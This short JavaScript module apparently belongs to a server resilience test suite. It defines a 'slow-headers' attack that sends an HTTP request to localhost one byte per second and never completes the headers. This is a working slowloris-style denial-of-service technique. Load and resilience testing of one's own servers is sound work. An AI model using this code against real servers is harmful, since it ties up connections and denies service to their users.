// Headers, one byte at a time.
import { attackWith } from '../lib/target.mjs';

const TEXT = 'GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ';

export const name = 'slow-headers';

export const attack = async (target) =>
  attackWith(target, (socket) => {
    let at = 0;
    const timer = setInterval(() => socket.write(TEXT[at++] ?? 'x'), 1_000);
    socket.resume().on('close', () => clearInterval(timer));
  });
